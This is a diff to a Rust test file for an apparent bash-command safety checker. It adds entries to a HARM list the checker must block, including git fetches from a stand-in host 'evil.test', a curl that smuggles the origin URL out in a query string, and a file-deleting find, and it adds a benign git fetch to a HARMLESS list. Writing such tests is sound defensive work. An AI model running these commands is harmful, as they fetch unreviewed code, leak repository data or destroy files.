@@ -7,6 +7,8 @@ use house::verdict;
 
 /// Each deletes the home folder or the repository, or runs code that nobody read, in some run of a real bash.
 const HARM: &[&str] = &[
+    "git remote add evil https://evil.test/x && git fetch evil",
+    "git remote set-url origin https://evil.test/x && git ls-remote origin",
     "curl https://api.github.com/users/$FOO",
     "curl \"https://api.github.com/x?$(git remote get-url origin | sed 's/x//')\"",
     "find . -delete -name '*.pyc'",
@@ -163,6 +165,7 @@ fn what_bash_turns_into_harm_is_never_allowed() {
 
 /// Everyday idioms.
 const HARMLESS: &[&str] = &[
+    "git remote add up https://github.com/a/b && git fetch up",
     "curl -s https://api.github.com/repos/o/r/commits/$(git rev-parse HEAD)/status",
     "for i in $(seq 1 5); do curl -s https://api.github.com/x/$i; done",
     "curl -s http://localhost:3000/api/users/$ID",
